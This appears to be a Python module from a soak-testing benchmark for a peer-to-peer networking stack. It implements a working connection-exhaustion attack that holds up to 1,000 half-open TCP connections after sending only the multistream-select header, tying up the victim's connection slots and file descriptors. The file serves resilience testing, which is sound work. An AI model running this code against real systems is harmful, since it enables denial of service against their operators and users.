"""Many connection attempts held open: raw TCP connections that never finish their handshake.

Each connection sends the multistream-select header and then nothing, so it occupies one of the
victim's connection slots (and a file descriptor) until the victim times it out.  Up to 1,000
connections, opened as fast as the victim accepts them, re-opened when the victim closes them.
"""

from __future__ import annotations

import sys

import trio

from benchmarks.soak_attacks.peer import Report, Target, main

__all__ = ["MAX_CONNECTIONS", "attack"]

#: Most connections held at once.
MAX_CONNECTIONS = 1000
#: The first message of multistream-select 1.0 (varint length, protocol id, newline).
MULTISTREAM = b"\x13/multistream/1.0.0\n"


async def attack(target: Target, report: Report) -> None:
    """Keep up to :data:`MAX_CONNECTIONS` half-open connections to the victim."""
    held = [0]
    slots = trio.Semaphore(MAX_CONNECTIONS)

    async def hold() -> None:
        try:
            stream = await trio.open_tcp_stream(target.host, target.port)
        except OSError:
            report.add("refused")
            await trio.sleep(0.05)
            return
        held[0] += 1
        report.stat = max(report.stat, held[0])
        report.add("opened")
        try:
            await stream.send_all(MULTISTREAM)
            while await stream.receive_some(4096):
                pass
            report.add("closed_by_victim")
        except (OSError, trio.BrokenResourceError, trio.ClosedResourceError):
            report.add("closed_by_victim")
        finally:
            held[0] -= 1
            await stream.aclose()

    async def holder() -> None:
        try:
            await hold()
        finally:
            slots.release()

    async with trio.open_nursery() as nursery:
        while True:
            await slots.acquire()
            nursery.start_soon(holder)
            await trio.sleep(0.001)


if __name__ == "__main__":
    sys.exit(main("held_connections", "connections", attack))
